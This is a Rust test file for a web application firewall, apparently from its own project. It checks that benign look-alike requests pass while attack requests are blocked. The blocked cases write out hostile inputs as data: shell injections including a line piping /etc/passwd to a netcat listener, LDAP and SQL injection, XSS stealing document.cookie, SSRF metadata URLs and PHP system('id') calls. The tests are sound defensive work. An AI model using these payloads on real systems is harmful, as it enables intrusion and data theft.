//! One test per class of false positive fixed for issue 6 (replaying the
//! CRS "must not fire" tests, `crs_negatives.jsonl`): the benign near-miss
//! that must pass, next to the attack the same rule must still catch.

use super::test_support::{caught, form, head, passes, verdict, waf};
use super::*;

fn assert_blocked(w: &Waf, h: &http::request::Parts, body: &[u8], what: &str) {
    caught(w, verdict(w, h, body), what);
}

fn assert_passes(w: &Waf, h: &http::request::Parts, body: &[u8], what: &str) {
    passes(w, verdict(w, h, body), what);
}

fn get(w: &Waf, uri: &str) -> Verdict {
    verdict(w, &head("GET", uri, &[]), b"")
}

#[test]
fn content_type_rules_need_a_body() {
    let w = waf();
    for ct in [
        "text/html; charset=UTF-8",
        "application/*+json",
        "text/plain; charset=/gar/bage",
    ] {
        let h = head(
            "POST",
            "/post",
            &[("content-type", ct), ("content-length", "0")],
        );
        assert_passes(&w, &h, b"", ct);
    }
    let h = head(
        "OPTIONS",
        "/",
        &[("content-type", "application"), ("content-length", "4")],
    );
    assert_blocked(&w, &h, b"test", "a body of a type not allowed");
    // A second media type hides in the parameters, body or not.
    let h = head(
        "POST",
        "/post",
        &[(
            "content-type",
            "application/x-www-form-urlencoded;boundary=\"application/json\"",
        )],
    );
    assert_blocked(&w, &h, b"", "a second media type");
}

#[test]
fn a_put_or_patch_body_needs_a_content_type() {
    let w = waf();
    let h = head("PUT", "/resource/1", &[("content-length", "18")]);
    assert_blocked(&w, &h, br#"{"name":"updated"}"#, "an untyped PUT body");
    let h = head("PATCH", "/resource/1", &[("content-length", "18")]);
    assert_blocked(&w, &h, br#"{"name":"updated"}"#, "an untyped PATCH body");
    // Webhooks and simple clients post raw bytes without a type.
    let h = head("POST", "/hooks/build", &[("content-length", "13")]);
    assert_passes(&w, &h, b"build done ok", "an untyped POST body");
    let h = head("POST", "/", &[("transfer-encoding", "chunked")]);
    assert_passes(&w, &h, b"Hi CRS", "a streamed untyped body");
}

#[test]
fn only_broken_multibyte_utf8_is_an_evasion() {
    let w = waf();
    passes(&w, get(&w, "/?test%FD=test1"), "Latin-1 byte in a name");
    passes(
        &w,
        get(&w, "/%FFindex.html?test=test1"),
        "Latin-1 byte in the path",
    );
    caught(&w, get(&w, "/?param=%c0"), "a truncated overlong lead byte");
    caught(&w, get(&w, "/?param=%e2%a3"), "a truncated 3-byte sequence");
}

#[test]
fn multipart_equals_inside_quotes_is_not_confusing() {
    let w = waf();
    let ct = "multipart/form-data; boundary=b";
    let ok = b"--b\r\nContent-Disposition: form-data; name=\"bigfile\"; filename=\"file=.txt\"\r\nContent-Type: text/plain\r\n\r\n111\r\n--b--\r\n";
    let h = head(
        "POST",
        "/",
        &[("content-type", ct), ("content-length", "1")],
    );
    assert_passes(&w, &h, ok, "filename=\"file=.txt\"");
    let bad = b"--b\r\nContent-Disposition: form-data; name=\"fi;le\"; filename=\"test\"\r\n\r\nx\r\n--b--\r\n";
    assert_blocked(&w, &h, bad, "a ';' inside a quoted name");
}

#[test]
fn header_injection_needs_a_header_value() {
    let w = waf();
    passes(
        &w,
        get(&w, "/file.jsp?somevar=%0A%0Dlocation:%0A%0D"),
        "an empty header line",
    );
    caught(
        &w,
        get(&w, "/?foo=%0d%0arefresh:%20www.bar.com"),
        "an injected Refresh header",
    );
}

#[test]
fn ldap_injection_needs_a_breakout() {
    let w = waf();
    passes(
        &w,
        form(&w, "foo=(userAccountControl:1.2.840.113556.1.4.803:=67108864)(%26(objectCategory=group)(groupType:1.2.840.113556.1.4.803:=2147483648))"),
        "a complete LDAP filter",
    );
    caught(
        &w,
        form(&w, "username=*)(%26(objectclass=*)"),
        "an LDAP breakout",
    );
    caught(&w, get(&w, "/?user=*)(uid=*))(|(uid=*"), "an LDAP breakout");
}

#[test]
fn path_traversal_needs_a_whole_dot_dot_segment() {
    let w = waf();
    passes(&w, get(&w, "/get/foo../1234"), "dots ending a file name");
    passes(&w, get(&w, "/get/foo.../1234"), "dots ending a file name");
    passes(&w, get(&w, "/get/.."), "a trailing /.. inside the root");
    caught(&w, get(&w, "/?arg=..%5Cpineapple"), "a leading ..\\");
    caught(
        &w,
        get(&w, "/static/..%2F..%2Fsecret"),
        "a traversal in the path",
    );
}

#[test]
fn english_words_after_a_separator_are_not_commands() {
    let w = waf();
    for prose in [
        "var=hello%3B+time+he+came",
        "var=a+hero%3B+more+than",
        "code=time+null+space%0A",
        "message=Find%20your%20solution%20here%20-%3E%20link",
    ] {
        passes(&w, form(&w, prose), prose);
    }
    for attack in [
        "code=%3Bfind+/etc+-name+passwd+-exec+cat+%7B%7D",
        "arg=%3Bsleep+5",
        "arg=%3Becho+hello",
        "arg=%3Bps",
        "code=%3B%60cat%3C%3C%3C%27ifconfig%27%60",
        "code=time%3B+ansible+all+-m+ping",
    ] {
        caught(&w, form(&w, attack), attack);
    }
}

#[test]
fn the_referer_gets_no_command_injection_rules() {
    let w = waf();
    let h = head("GET", "/get", &[("referer", "www.google.com/;ls%20-al")]);
    assert_passes(&w, &h, b"", "a ; in a referer path");
    let h = head("GET", "/get", &[("referer", "http://localhost/test")]);
    assert_passes(&w, &h, b"", "a local referer");
    let h = head(
        "GET",
        "/get",
        &[(
            "referer",
            "https://evil.com/\" onmouseover=alert(document.cookie) \"",
        )],
    );
    assert_blocked(&w, &h, b"", "XSS in the referer");
}

#[test]
fn php_needs_code_not_just_its_markers() {
    let w = waf();
    let h = head("GET", "/get", &[("cookie", "session=<?php")]);
    assert_passes(&w, &h, b"", "a bare open tag");
    passes(&w, get(&w, "/get?foo=exec%20%28"), "an unclosed call");
    passes(&w, get(&w, "/get/eval("), "eval( in a path");
    for empty in ["%24a%5B%5D%28%29", "%24%7B%7D%28%29", "%24a%7B%7D%28%29"] {
        passes(&w, get(&w, &format!("/get?x={empty}")), empty);
    }
    caught(
        &w,
        get(&w, "/?foo=%3C%3Fphp%20echo%20%22test%22"),
        "an open tag with code",
    );
    caught(&w, get(&w, "/?x=system(%27id%27)"), "a PHP call");
    caught(
        &w,
        get(&w, "/?x=%24func%5B%27a%27%5D(%27id%27)"),
        "a variable function call",
    );
}

#[test]
fn a_php_session_name_counts_only_as_an_upload_name() {
    let w = waf();
    passes(
        &w,
        form(
            &w,
            "order_id=ORD-1&session_token=sess_1a2b3c4Xm7Yp9Qn5Rt8Wk%3D",
        ),
        "a sess_ token in a form",
    );
    let h = head(
        "PUT",
        "/upload",
        &[("x-filename", "sess_d8ew88tqmabdcokhumchy8htqm")],
    );
    assert_blocked(&w, &h, b"", "an upload named like a session file");
    caught(
        &w,
        get(&w, "/?next-auth.session-token=abc"),
        "a framework session id from a link",
    );
}

#[test]
fn ssrf_needs_a_fetchable_internal_url() {
    let w = waf();
    passes(&w, get(&w, "/?server=localhost"), "a bare host name");
    passes(
        &w,
        get(&w, "/?ssrf=169.254.169.254%2Flatest"),
        "a scheme-less address",
    );
    passes(&w, get(&w, "/?ssrf=http%3A0xABCDEF"), "a 24-bit number");
    caught(&w, get(&w, "/?url=localhost/"), "a loopback path");
    caught(
        &w,
        get(&w, "/?u=http%3A%2F%2F169.254.169.254%2Flatest%2F"),
        "a metadata URL",
    );
    caught(&w, get(&w, "/?u=http://0x7f000001/"), "a hex loopback");
}

#[test]
fn xss_markup_needs_something_that_runs() {
    let w = waf();
    let svg = "image=%3C%3Fxml%20version%3D%221.0%22%3F%3E%3Csvg%3E%3C%2Fsvg%3E";
    passes(&w, form(&w, svg), "a bare svg document");
    let xmp = "content=%3Cx%3Axmpmeta%20xmlns%3Ax%3D%22adobe%3Ans%3Ameta%2F%22%3E";
    passes(&w, form(&w, xmp), "XMP metadata");
    passes(
        &w,
        get(&w, "/get/javascript-manual/document.cookie"),
        "a docs path",
    );
    caught(
        &w,
        get(&w, "/?q=%3Csvg/onload%3Dalert(1)%3E"),
        "svg with a handler",
    );
    caught(
        &w,
        get(&w, "/?q=document.cookie"),
        "document.cookie in a value",
    );
    let xi = "var=%3Cacp+xmlns%3Axi%3D%22http%3A%2F%2Fwww.w3.org%2F2001%2FXInclude%22%3E%3Cxi%3Ainclude+href%3D%22http%3A%2F%2Fx%2F%22%2F%3E";
    caught(&w, form(&w, xi), "XInclude");
    let h = head("GET", "/", &[("cookie", "My-Cookie=<STYLE>@\\\\")]);
    assert_blocked(&w, &h, b"", "a bare style tag");
}

#[test]
fn sql_near_misses() {
    let w = waf();
    passes(
        &w,
        form(&w, "payload=Harsle+%281319%29+und+Ha%C3%9Felt+%281599%29."),
        "a place name ending in 'elt'",
    );
    passes(
        &w,
        form(&w, "email=%60foo%60%3B%60bar%60"),
        "backtick identifiers",
    );
    caught(&w, form(&w, "pay=elt(1,2)"), "ELT()");
    caught(
        &w,
        form(&w, "email=admin%40juice-sh.op%27%3B"),
        "a quote and ;",
    );
    caught(&w, form(&w, "pay=exec+%28%40%0A"), "EXEC(@var)");
}

#[test]
fn js_loops_count_their_negations() {
    let w = waf();
    passes(
        &w,
        get(&w, "/get?eval=while(!true);"),
        "a loop that never runs",
    );
    caught(&w, get(&w, "/get?eval=while(!0);"), "an endless loop");
    caught(
        &w,
        get(&w, "/get?eval=while(!!%22x%22);"),
        "an endless loop",
    );
}

#[test]
fn windows_commands_need_arguments() {
    let w = waf();
    passes(&w, get(&w, "/get?cmd=regedit%20"), "a bare program name");
    caught(
        &w,
        get(&w, "/get?cmd=regedit%20/s%20x.reg"),
        "regedit with a file",
    );
}

/// A sentence that starts with a word that is also a command (Node, Ruby,
/// Echo, Timeout, ping, ...) and has a `;`, `|` or `&` further on is prose:
/// the command-at-the-start rule needs command-like arguments first.
#[test]
fn prose_starting_with_a_command_word_passes() {
    let w = waf();
    for text in [
        "Node is great; but Elixir wins",
        "Ruby vs Elixir | which one?",
        "Timeout errors; how to fix them",
        "Echo chamber; a book review",
        "ping me when free; thanks",
        "Alias names & nicknames",
        "Reboot of the series; season 2 is out",
        "Grep the logs | look for errors",
        "Env vars are set; deploy now",
    ] {
        let body = format!(
            "post%5Bbody%5D={}",
            text.replace(' ', "+")
                .replace(';', "%3B")
                .replace('&', "%26")
                .replace('|', "%7C")
        );
        passes(&w, form(&w, &body), text);
    }
    for attack in [
        "ping+-c+3+127.0.0.1%3B+id",
        "cat+%2Fetc%2Fpasswd+%7C+nc+10.0.0.1+4444",
        "echo+%27x%27+%3E+%2Ftmp%2Fx",
        "ls+-la+%2F",
        "ansible-vault+decrypt+secret%0A",
        "node+app.js+%26",
    ] {
        caught(&w, form(&w, &format!("code={attack}")), attack);
    }
}
